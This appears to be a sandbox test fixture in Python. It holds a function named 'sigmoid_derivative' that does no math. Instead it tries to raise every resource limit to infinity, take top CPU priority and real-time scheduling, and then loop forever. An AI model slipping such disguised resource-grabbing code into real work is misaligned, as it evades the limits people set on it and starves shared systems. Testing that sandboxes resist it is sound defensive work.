"""Gives itself more CPU time, more memory, larger files and a better place in the queue.

A limit may be lowered by everybody and raised by none of them.
"""

CELLS = {
    "sigmoid_derivative": """
import os, resource
def sigmoid_derivative(z):
    for name in dir(resource):
        if name.startswith("RLIMIT_"):
            for wanted in (resource.RLIM_INFINITY, 2**40):
                try:
                    resource.setrlimit(getattr(resource, name), (wanted, wanted))
                except (ValueError, OSError):
                    pass
    try:
        os.nice(-20)
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    except OSError:
        pass
    while True:
        pass
"""
}

SAYS = "in time"
